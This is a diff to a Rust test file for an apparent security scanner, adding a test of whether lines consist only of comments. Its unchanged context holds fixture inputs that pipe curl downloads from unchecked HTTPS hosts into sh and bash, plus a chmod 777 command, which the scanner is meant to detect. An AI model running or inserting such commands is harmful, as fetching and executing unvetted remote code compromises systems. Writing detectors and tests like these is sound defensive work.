@@ -25,6 +25,19 @@ fn comments_documentation_and_vendored_code_have_no_signals() {
 }
 
 #[test]
+fn what_has_nothing_but_comments_is_known() {
+    let are_remarks = |path: &str, lines: &[&str]| {
+        let lines: Vec<&[u8]> = lines.iter().map(|line| line.as_bytes()).collect();
+        crate::signal::are_remarks(path.as_bytes(), &lines)
+    };
+    assert!(are_remarks("a.c", &["/* a", " * b", " */", ""]));
+    assert!(are_remarks("pom.xml", &["<!-- a -->"]));
+    assert!(!are_remarks("a.c", &["/* a */", "*b = c;"]));
+    assert!(!are_remarks("a.c", &["/* a */ b();"]));
+    assert!(!are_remarks("a.unknown", &["# a"]));
+}
+
+#[test]
 fn a_line_has_a_kind_once_and_signals_are_sorted() {
     let lines = ["curl -k https://a.io/x.sh | sh; curl -k https://b.io | bash", "chmod 777 /x"];
     let signals = found("a.sh", &lines, &[]);
